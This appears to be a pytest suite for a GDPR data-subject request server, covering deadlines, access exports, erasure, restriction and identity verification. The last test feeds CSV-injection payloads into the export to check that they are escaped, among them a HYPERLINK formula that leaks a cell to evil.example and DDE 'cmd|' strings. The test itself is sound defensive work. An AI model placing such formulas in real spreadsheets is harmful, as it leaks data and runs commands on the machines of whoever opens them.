"""Data-subject requests against the real server: calendar deadlines, one
extension, every type carried out and checked through the API and in the
database files, the export's Art. 15(1) items, and refusals."""
import datetime
import json
import re
import threading
import time

import pytest
import requests

from conftest import WEBSHOP, Privreg, Server, _bin, add_key, files_contain
from test_consent import Inbox, free_port, link_in


@pytest.fixture
def env(tmp_path):
    privreg = Privreg(_bin())
    d = tmp_path / "reg"
    privreg("init", "--dir", d, "--policy", WEBSHOP, check=0)
    port = free_port()
    inbox = Inbox(port).start()
    srv = Server(privreg, d, ["--smtp", f"smtp://127.0.0.1:{port}"])
    srv.keys = {r: add_key(privreg, d, r) for r in ["admin", "dpo", "support", "marketing"]}
    srv.inbox = inbox
    yield srv
    code, log = srv.stop()
    inbox.stop()
    assert code == 0, log[-2000:]
    assert "AddressSanitizer" not in log and "runtime error" not in log, log[-3000:]


def subject(env, email="mari@example.ee", language="en", extra=None):
    records = [{"kind": "account", "fields": {"email": email, "name": "Mari Tamm", "phone": "+372 5123 4567",
                                              "language": language}},
               {"kind": "order", "fields": {"name": "Mari Tamm", "delivery_address": "Pikk 1, Tallinn",
                                            "items": [{"sku": "KB-1"}], "amount": "49.90"},
                "created_at": "2024-03-01T10:00:00Z"},
               {"kind": "accounting_entry", "fields": {"name": "Mari Tamm", "address": "Pikk 1, Tallinn",
                                                       "amount": "49.90", "payment_ref": "INV-77"},
                "events": {"fulfilled": "2024-03-02"}}] + (extra or [])
    r = env.request("POST", "/v1/subjects", env.keys["admin"], json={"records": records})
    assert r.status_code == 201, r.text
    return r.json()["id"], [x["id"] for x in r.json()["records"]]


def new_request(env, sid, type_, key="support", **extra):
    body = {"type": type_, "subject_id": sid, "verified_by": "ID card at the counter", **extra}
    r = env.request("POST", "/v1/requests", env.keys[key], json=body)
    assert r.status_code == 201, r.text
    return r.json()


def complete(env, rid, key="dpo"):
    r = env.request("POST", f"/v1/requests/{rid}/complete", env.keys[key], json={})
    assert r.status_code == 200, r.text
    return r.json()


@pytest.mark.parametrize("received,due,extended", [
    ("2024-01-31", "2024-02-29T00:00:00Z", "2024-04-30T00:00:00Z"),   # leap year
    ("2023-01-31", "2023-02-28T00:00:00Z", "2023-04-30T00:00:00Z"),
    ("2024-03-31", "2024-04-30T00:00:00Z", "2024-06-30T00:00:00Z"),
    ("2024-12-15T09:30:00Z", "2025-01-15T09:30:00Z", "2025-03-15T09:30:00Z"),
    ("2024-11-30", "2024-12-30T00:00:00Z", "2025-02-28T00:00:00Z"),
])
def test_deadlines_in_calendar_months(env, received, due, extended):
    sid, _ = subject(env, email=f"d{received[:10]}@example.ee")
    r = new_request(env, sid, "access", received_at=received)
    assert r["due_at"] == due and r["status"] == "in_progress" and r["target_at"] is None
    assert r["overdue"] is True  # these dates are long past
    # Past its deadline, a request can no longer be extended.
    x = env.request("POST", f"/v1/requests/{r['id']}/extend", env.keys["dpo"], json={"reason": "busy"})
    assert x.status_code == 409


def test_one_extension_and_no_more(env):
    sid, _ = subject(env)
    r = new_request(env, sid, "access")
    received = datetime.datetime.fromisoformat(r["received_at"].replace("Z", "+00:00"))
    x = env.request("POST", f"/v1/requests/{r['id']}/extend", env.keys["dpo"],
                    json={"reason": "the archive is being moved"})
    assert x.status_code == 200, x.text
    ext = x.json()
    assert ext["extension_reason"] == "the archive is being moved" and ext["extended_at"]
    due = datetime.datetime.fromisoformat(ext["due_at"].replace("Z", "+00:00"))
    months = (due.year - received.year) * 12 + due.month - received.month
    assert months == 3
    again = env.request("POST", f"/v1/requests/{r['id']}/extend", env.keys["dpo"], json={"reason": "more"})
    assert again.status_code == 409 and "once" in again.json()["error"]["message"]
    assert env.request("POST", f"/v1/requests/{r['id']}/extend", env.keys["support"],
                       json={"reason": "x"}).status_code == 403
    # The subject is told why, in their language.
    msgs = env.inbox.wait(1)
    assert msgs and "the archive is being moved" in msgs[-1].get_body().get_content()
    assert "more time" in msgs[-1]["Subject"]


def test_requests_are_listed_and_watched(env, tmp_path):
    sid, _ = subject(env)
    late = new_request(env, sid, "access", received_at="2024-01-10")
    fresh = new_request(env, sid, "restriction")
    unverified = env.request("POST", "/v1/requests", env.keys["support"],
                             json={"type": "erasure", "email": "mari@example.ee", "channel": "email"}).json()
    assert unverified["status"] == "verifying" and unverified["subject_id"] == sid
    ids = lambda **q: [x["id"] for x in env.request("GET", "/v1/requests", env.keys["dpo"], params=q).json()["requests"]]
    assert ids(overdue="true") == [late["id"]]
    assert set(ids(status="verifying")) == {unverified["id"]}
    assert set(ids()) == {late["id"], fresh["id"], unverified["id"]}
    assert ids(due_before="2024-03-01") == [late["id"]]
    # Completing needs a verified requester.
    r = env.request("POST", f"/v1/requests/{unverified['id']}/complete", env.keys["dpo"], json={})
    assert r.status_code == 409
    assert env.request("POST", f"/v1/requests/{unverified['id']}/verify", env.keys["support"],
                       json={"verified_by": "code sent to the e-mail on record"}).json()["status"] == "in_progress"
    metrics = env.request("GET", "/metrics", env.keys["admin"]).text
    assert 'privreg_requests_open{tenant="default"} 3' in metrics
    assert 'privreg_requests_late{tenant="default"} 1' in metrics
    r = env.privreg("requests", "due", "--days", "40", "--dir", env.dir, check=1)
    assert late["id"] in r.stdout and "LATE" in r.stdout and fresh["id"] in r.stdout
    assert "3 open requests" in r.stderr


def test_request_errors(env):
    sid, _ = subject(env)
    r = env.request("POST", "/v1/requests", env.keys["support"], json={"type": "teleport", "subject_id": sid})
    assert r.status_code == 422
    r = env.request("POST", "/v1/requests", env.keys["support"],
                    json={"type": "access", "subject_id": "sub_00000000000000000000000000"})
    assert r.status_code == 404
    r = env.request("POST", "/v1/requests", env.keys["support"], json={"type": "access", "email": "nobody@example.ee"})
    assert r.status_code == 404
    r = env.request("POST", "/v1/requests", env.keys["support"], json={"type": "access"})
    assert r.status_code == 422
    r = env.request("POST", "/v1/requests", env.keys["support"],
                    json={"type": "access", "subject_id": sid, "received_at": "2999-01-01"})
    assert r.status_code == 422
    assert env.request("GET", "/v1/requests/req_00000000000000000000000000", env.keys["dpo"]).status_code == 404
    assert env.request("POST", "/v1/requests", env.keys["marketing"],
                       json={"type": "access", "subject_id": sid}).status_code == 403
    req = new_request(env, sid, "access")
    r = env.request("POST", f"/v1/requests/{req['id']}/refuse", env.keys["dpo"],
                    json={"reason": "manifestly unfounded: the fifth identical request this week"})
    assert r.status_code == 200 and r.json()["status"] == "refused"
    assert env.request("POST", f"/v1/requests/{req['id']}/complete", env.keys["dpo"], json={}).status_code == 409
    assert env.request("POST", f"/v1/requests/{req['id']}/refuse", env.keys["dpo"], json={}).status_code == 422


def test_access_export_holds_every_item_of_article_15(env):
    sid, rec_ids = subject(env)
    env.request("POST", f"/v1/subjects/{sid}/consents", env.keys["admin"],
                json={"purpose": "direct_marketing", "granted": True, "source": "checkout form"})
    req = new_request(env, sid, "access")
    assert env.request("GET", f"/v1/requests/{req['id']}/export", env.keys["dpo"]).status_code == 409
    done = complete(env, req["id"])
    assert done["status"] == "completed" and done["export_url"]
    e = env.request("GET", f"/v1/requests/{req['id']}/export", env.keys["dpo"]).json()
    assert e["subject_id"] == sid
    assert e["controller"]["name"] == "SIA BAJTEL.LV" and e["controller"]["dpo"] == "dpo@eleme.example"   # (a) who
    assert e["supervisory_authority"]["name"] == "Andmekaitse Inspektsioon"                                # (f)
    kinds = {r["kind"]: r for r in e["records"]}
    assert set(kinds) == {"account", "order", "accounting_entry"}
    order = kinds["order"]
    assert order["fields"]["delivery_address"] == "Pikk 1, Tallinn"                                         # (b)
    assert order["purposes"] == [{"name": "contract", "title": {"et": "Tellimuste vastuvõtmine, haldamine ja täitmine",
                                                                 "en": "Taking, managing and fulfilling orders"},
                                   "legal_basis": "contract"}]                                              # (a)
    assert order["retention"] == "3 years after created" and order["planned_deletion"] == "2027-03-01"      # (d)
    assert kinds["accounting_entry"]["planned_deletion"] == "2031-03-02"
    assert kinds["account"]["planned_deletion"] is None and "closed" in kinds["account"]["planned_deletion_note"]
    names = {x["name"]: x for x in order["recipients"]}                                                     # (c)
    assert set(names) >= {"courier", "payments", "it_support", "authorities"}
    assert names["payments"]["country"] == "US" and names["payments"]["transfer_basis"] == "scc"
    assert names["courier"]["fields"] == ["name", "phone", "delivery_address"]
    assert any("erasure" in r for r in e["rights"]) and any("objection" in r for r in e["rights"])           # (e)
    assert e["source"] and e["automated_decisions"].startswith("none")                                      # (g), (h)
    assert [h["action"] for h in e["consent_history"]] == ["granted"]
    assert e["disclosures"] == []
    # The subject's own link (signed, expiring) gives the same; CSV is one part per kind.
    mine = requests.get(done["export_url"], timeout=10)
    assert mine.status_code == 200 and mine.json()["records"] == e["records"]
    csv = requests.get(done["export_url"], params={"format": "csv"}, timeout=10)
    assert csv.headers["Content-Type"].startswith("multipart/mixed; boundary=")
    assert csv.text.count('filename="') == 3 and "INV-77" in csv.text
    assert requests.get(done["export_url"][:-4] + "AAAA", timeout=10).status_code == 404
    # The answer e-mail carries the link.
    msgs = env.inbox.wait(2)
    answered = [m for m in msgs if "answered" in m["Subject"]]
    assert answered and "/x/" in answered[-1].get_body().get_content()


def test_rectification(env):
    sid, (acc, *_) = subject(env)
    req = new_request(env, sid, "rectification", details={"record_id": acc, "fields": {"name": "Mari Kask"}})
    complete(env, req["id"])
    assert env.request("GET", f"/v1/records/{acc}", env.keys["admin"]).json()["fields"]["name"] == "Mari Kask"
    bad = new_request(env, sid, "rectification", details={"record_id": acc, "fields": {"email": "not-mail"}})
    r = env.request("POST", f"/v1/requests/{bad['id']}/complete", env.keys["dpo"], json={})
    assert r.status_code == 422
    assert env.request("GET", f"/v1/requests/{bad['id']}", env.keys["dpo"]).json()["status"] == "in_progress"


def test_erasure_keeps_only_what_a_law_keeps(env):
    sid, (acc, order, accounting) = subject(env, email="erase.me@example.ee")
    env.request("POST", f"/v1/subjects/{sid}/consents", env.keys["admin"],
                json={"purpose": "direct_marketing", "granted": True, "source": "checkout"})
    req = new_request(env, sid, "erasure")
    done = complete(env, req["id"])
    assert "2 records erased" in done["outcome"]
    assert "accounting_entry kept" in done["outcome"] and "7 years after fulfilled" in done["outcome"]
    # What is kept is restricted, and only legal roles may read it.
    assert env.request("GET", f"/v1/records/{order}", env.keys["admin"]).status_code == 404
    assert env.request("GET", f"/v1/records/{acc}", env.keys["admin"]).status_code == 404
    kept = env.request("GET", f"/v1/records/{accounting}", env.keys["dpo"])
    assert kept.status_code == 200 and kept.json()["state"] == "restricted"
    assert kept.json()["fields"]["payment_ref"] == "INV-77"
    assert env.request("GET", f"/v1/subjects/{sid}", env.keys["support"]).status_code == 409
    assert env.request("GET", "/v1/subjects", env.keys["admin"], params={"email": "erase.me@example.ee"}).json() == {"subjects": []}
    check = env.request("GET", "/v1/consents/check", env.keys["marketing"],
                        params={"purpose": "direct_marketing", "subject": sid}).json()
    assert check == {"allowed": False, "state": "restricted"}
    # No byte of the erased values is in the database files.
    for value in [b"erase.me", b"Mari Tamm", b"Pikk 1", b"37251234567", b"KB-1"]:
        assert not files_contain(env.dir, value), value
    # The erasure request itself stays: it is the proof.
    assert env.request("GET", f"/v1/requests/{req['id']}", env.keys["dpo"]).json()["status"] == "completed"


def test_full_erasure_and_suppression(env):
    r = env.request("POST", "/v1/subjects", env.keys["admin"],
                    json={"records": [{"kind": "account", "fields": {"email": "gone@example.ee", "name": "Gone"}}]})
    sid = r.json()["id"]
    complete(env, new_request(env, sid, "erasure")["id"])
    assert env.request("GET", f"/v1/subjects/{sid}", env.keys["admin"]).status_code == 404
    assert not files_contain(env.dir, b"gone@example.ee")
    msgs = env.inbox.wait(1)
    assert any(str(m["To"]) == "gone@example.ee" and "(andmete kustutamine)" in m["Subject"] for m in msgs)


def test_restriction_objection_withdrawal_optout(env):
    sid, _ = subject(env, email="rights@example.ee")
    env.request("POST", f"/v1/subjects/{sid}/consents", env.keys["admin"],
                json={"purpose": "direct_marketing", "granted": True, "source": "checkout"})
    complete(env, new_request(env, sid, "objection", details={"purposes": ["personalisation"]})["id"])
    chk = lambda p: env.request("GET", "/v1/consents/check", env.keys["marketing"],
                                params={"purpose": p, "subject": sid}).json()
    assert chk("personalisation") == {"allowed": False, "state": "objected"}
    complete(env, new_request(env, sid, "marketing_optout")["id"])
    assert chk("direct_marketing") == {"allowed": False, "state": "objected"}
    complete(env, new_request(env, sid, "restriction")["id"])
    assert env.request("GET", f"/v1/subjects/{sid}", env.keys["support"]).status_code == 409
    assert env.request("GET", f"/v1/subjects/{sid}", env.keys["dpo"]).status_code == 200
    assert chk("contract")["state"] == "restricted"
    assert env.request("DELETE", f"/v1/subjects/{sid}/restriction", env.keys["dpo"]).status_code == 204
    assert env.request("GET", f"/v1/subjects/{sid}", env.keys["support"]).status_code == 200
    bad = new_request(env, sid, "withdraw_consent", details={"purposes": ["contract"]})
    assert env.request("POST", f"/v1/requests/{bad['id']}/complete", env.keys["dpo"], json={}).status_code == 422


def test_erasure_racing_a_write_leaves_all_or_nothing(env):
    for round_ in range(5):
        sid, _ = subject(env, email=f"race{round_}@example.ee")
        req = new_request(env, sid, "erasure")
        results = {}

        def add_record():
            results["add"] = env.request("POST", f"/v1/subjects/{sid}/records", env.keys["admin"],
                                         json={"kind": "message", "fields": {"message": f"hello {round_}"}})

        t = threading.Thread(target=add_record)
        t.start()
        results["erase"] = env.request("POST", f"/v1/requests/{req['id']}/complete", env.keys["dpo"], json={})
        t.join()
        assert results["erase"].status_code == 200
        # Either the message came first and was erased with the rest, or it
        # came after and was refused (the subject is gone, or restricted
        # with only what a law keeps): never a leftover.
        assert results["add"].status_code in (201, 404, 409, 410), results["add"].text
        if results["add"].status_code == 201:
            mid = results["add"].json()["id"]
            assert env.request("GET", f"/v1/records/{mid}", env.keys["dpo"]).status_code == 404
        assert not files_contain(env.dir, f"hello {round_}".encode())


def test_identity_verified_by_a_link_to_the_address_on_record(env):
    sid, _ = subject(env, email="verify.me@example.ee", language="en")
    r = env.request("POST", "/v1/requests", env.keys["support"],
                    json={"type": "access", "email": "verify.me@example.ee", "channel": "email"})
    req = r.json()
    assert req["status"] == "verifying" and req["verified_by"] is None
    msgs = env.inbox.wait(1)
    (msg,) = [m for m in msgs if "yours" in m["Subject"]]
    link = link_in(msg, "v")
    assert "(access to your data)" in msg["Subject"]
    assert "<form" in requests.get(link, timeout=10).text
    assert env.request("GET", f"/v1/requests/{req['id']}", env.keys["dpo"]).json()["status"] == "verifying"
    done = requests.post(link, data={"verify": "One-Click"}, timeout=10)
    assert done.status_code == 200
    now = env.request("GET", f"/v1/requests/{req['id']}", env.keys["dpo"]).json()
    assert now["status"] == "in_progress" and now["verified_by"] == "link to the e-mail on record"
    assert requests.post(link, data={"verify": "One-Click"}, timeout=10).status_code == 410
    assert requests.post(link[:-3] + "xyz", data={"verify": "One-Click"}, timeout=10).status_code == 404


def test_restricted_subjects_leave_the_audience(env):
    sid, _ = subject(env, email="aud@example.ee")
    assert env.request("POST", f"/v1/subjects/{sid}/consents", env.keys["admin"],
                       json={"purpose": "direct_marketing", "granted": True, "source": "x"}).status_code == 201
    state = env.request("GET", f"/v1/subjects/{sid}/consents", env.keys["admin"]).json()["consents"][0]["state"]
    assert state == "pending"  # double opt-in: confirm through the e-mailed link
    (msg,) = [m for m in env.inbox.wait(1) if str(m["To"]) == "aud@example.ee"]
    requests.post(link_in(msg, "c"), data={"confirm": "One-Click"}, timeout=10)
    aud = lambda: [x["subject_id"] for x in env.request("GET", "/v1/audiences/direct_marketing",
                                                          env.keys["marketing"]).json()["recipients"]]
    assert aud() == [sid]
    complete(env, new_request(env, sid, "restriction")["id"])
    assert aud() == []


def test_csv_export_puts_a_quote_before_what_a_spreadsheet_would_run(env):
    """OWASP's CSV injection: a cell that begins with = + - @, a tab or a
    carriage return is a formula to a spreadsheet. The CSV export writes it
    after a single quote; the JSON export keeps the value exactly."""
    hostile = {"name": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "delivery_address": "+1+cmd|' /C calc'!A0",
               "amount": "-2+3", "payment_ref": "@SUM(1+1)*cmd|' /C calc'!A0"}
    sid, _ = subject(env, email="formula@example.ee",
                     extra=[{"kind": "accounting_entry", "fields": {"name": hostile["name"], "address": "\tTab",
                                                                    "amount": "49.90",
                                                                    "payment_ref": hostile["payment_ref"]}},
                            {"kind": "order", "fields": {"name": "-2+3", "delivery_address": hostile["delivery_address"],
                                                         "items": [{"sku": "KB-1"}], "amount": "49.90"}}])
    req = new_request(env, sid, "access")
    done = complete(env, req["id"])
    e = env.request("GET", f"/v1/requests/{req['id']}/export", env.keys["dpo"]).json()
    values = {v for r in e["records"] for v in r["fields"].values() if isinstance(v, str)}
    assert {hostile["name"], hostile["delivery_address"], hostile["payment_ref"], "-2+3", "\tTab"} <= values
    for csv_text in [env.request("GET", f"/v1/requests/{req['id']}/export?format=csv", env.keys["dpo"]).text,
                     requests.get(done["export_url"], params={"format": "csv"}, timeout=10).text]:
        assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in csv_text
        assert ",'+1+cmd|' /C calc'!A0," in csv_text or ",'+1+cmd|' /C calc'!A0\r\n" in csv_text
        assert ",'-2+3," in csv_text and "'@SUM(1+1)" in csv_text and ",'\tTab," in csv_text
        for line in csv_text.splitlines():
            for cell in line.split(","):
                assert not cell.strip('"').startswith(("=", "+", "-2", "@")), cell
        assert "Mari Tamm" in csv_text and ",49.90" in csv_text
